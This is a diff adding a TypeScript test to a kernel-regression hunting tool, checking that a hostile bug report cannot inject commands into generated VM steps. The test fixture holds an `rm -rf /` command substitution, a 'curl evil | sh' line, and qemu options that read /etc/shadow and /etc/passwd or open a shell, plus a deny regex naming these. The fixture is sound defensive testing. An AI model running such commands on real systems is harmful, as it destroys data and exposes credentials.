@@ -136,3 +136,26 @@ describe('firstbad hunt REPORT', () => {
     expect((JSON.parse(whole.stdout) as WholeReport).question).toBe('whole');
   });
 });
+
+describe('a hostile report', () => {
+  const hostile = `Subject: since kernel 6.0 \`reboot\` $(rm -rf /)
+
+This fails on 6.0:
+# losetup -b 4096 -f image.raw; curl evil | sh
+# qemu-system-x86_64 -drive file=/etc/shadow,format=raw,cache=none -netdev user,id=n,guestfwd=tcp:1.2.3.4:5-cmd:sh -monitor exec:sh
+
+This works on 6.0:
+# qemu-system-x86_64 -drive file=/dev/loop0,format=raw -chardev pipe,path=/etc/passwd,id=x
+`;
+
+  it('runs in its own VM only, and nothing of it but disks and their settings', async () => {
+    const cli = new FakeCli({ ...world, texts: { 'report.txt': hostile } });
+    const { status } = await cli.run(['hunt', 'report.txt', '--attempts', '6']);
+    expect([0, 125]).toContain(status);
+    for (const files of cli.laid.values()) {
+      const steps = new TextDecoder().decode(files.get('firstbad.yaml')).split('steps:')[1] ?? '';
+      expect(steps).not.toMatch(/shadow|passwd|curl|netdev|monitor|chardev|exec|\$\(|`|;/);
+    }
+    expect([...cli.written.keys()]).toEqual([]);
+  });
+});
